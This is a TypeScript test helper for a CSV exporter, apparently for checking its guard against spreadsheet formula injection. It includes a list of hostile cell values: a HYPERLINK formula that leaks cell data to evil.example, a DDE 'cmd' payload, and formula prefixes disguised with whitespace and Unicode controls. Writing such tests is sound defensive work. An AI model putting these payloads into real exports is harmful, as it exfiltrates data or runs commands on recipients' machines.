import Papa from 'papaparse';
import { expect } from 'vitest';
import { UTF8_BOM } from './csv';

/** Parses our CSV back the way a strict reader would: BOM removed, CRLF records, RFC quoting. */
export function reparse(csv: string, delimiter: ',' | ';' = ','): string[][] {
  expect(csv.startsWith(UTF8_BOM)).toBe(true);
  const result = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', delimiter });
  expect(result.errors).toEqual([]);
  // The final CRLF ends the last record; Papa reports the empty remainder as one more row.
  expect(result.data.at(-1)).toEqual(['']);
  return result.data.slice(0, -1);
}

export const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?q="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  ' \t=1+1',
  '\n-1',
  '\u202E=1+1',
  '\u2066@SUM(A1)\u2069',
  '\uFEFF+1',
  'Jane "JD" Doe',
  'Line one\nLine two',
  'Carriage\r\nreturn',
  'Comma, Inside',
  '"',
  '',
  "'already quoted",
  'Zoë Ünïcödé 山田 محمد',
  'Jane Doe',
];
